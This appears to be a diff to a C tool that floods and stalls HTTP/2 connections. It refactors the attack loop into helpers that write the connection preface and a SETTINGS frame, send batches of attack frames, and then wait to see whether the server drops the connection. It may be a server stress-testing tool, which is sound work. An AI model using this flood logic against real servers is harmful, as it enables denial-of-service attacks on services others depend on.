@@ -343,6 +343,39 @@ put(struct attack *a, int fd, struct out *o)
 	return true;
 }
 
+static bool
+begin(struct attack *a, int fd, struct out *o)
+{
+	memcpy(o->p, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 24);
+	o->n = 24;
+	if (a->kind->begin != begin_stalled)
+		frame(o, SETTINGS, 0, 0, NULL, 0);
+	if (a->kind->begin)
+		a->kind->begin(o);
+	return put(a, fd, o);
+}
+
+/* One batch. The first connection waits a little behind each. */
+static bool
+send_batch(struct attack *a, int fd, struct out *o, int *units)
+{
+	bool first = a->connections == 0;
+	for (int i = 0; i < BATCH; i++)
+		a->kind->unit(o, (*units)++);
+	return put(a, fd, o) && ((a->kind->deaf && !first) || !is_over(a, fd, first ? 20 : 0));
+}
+
+/* Nothing more is sent: a flood is waited for a while, one that stalls as long as it takes. */
+static bool
+wait_for_end(struct attack *a, int fd)
+{
+	int64_t from = now_us();
+	bool alive = true;
+	while (alive && !over && (!a->kind->unit || now_us() - from < 3000000))
+		alive = !is_over(a, fd, 100);
+	return alive;
+}
+
 static void
 attack_once(struct attack *a, struct out *o)
 {
@@ -350,25 +383,10 @@ attack_once(struct attack *a, struct out *o)
 	int64_t from = now_us();
 	if (fd < 0)
 		return;
-	o->n = 0;
-	memcpy(o->p, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 24);
-	o->n = 24;
-	if (a->kind->begin != begin_stalled)
-		frame(o, SETTINGS, 0, 0, NULL, 0);
-	if (a->kind->begin)
-		a->kind->begin(o);
-	bool alive = put(a, fd, o);
-	while (alive && !over && a->kind->unit && units < UNITS_MOST) {
-		for (int i = 0; i < BATCH; i++)
-			a->kind->unit(o, units++);
-		alive = put(a, fd, o) && ((a->kind->deaf && a->connections) ||
-					  !is_over(a, fd, a->connections ? 0 : 20));
-	}
-	while (alive && !over && (!a->kind->unit || units >= UNITS_MOST)) {
-		alive = !is_over(a, fd, 100);
-		if (a->kind->unit && now_us() - from > 3000000)
-			break;
-	}
+	bool alive = begin(a, fd, o);
+	while (alive && !over && a->kind->unit && units < UNITS_MOST)
+		alive = send_batch(a, fd, o, &units);
+	alive = alive && wait_for_end(a, fd);
 	if (a->connections == 0)
 		a->ends_after = alive ? -1 : units;
 	a->unended += alive && !over;
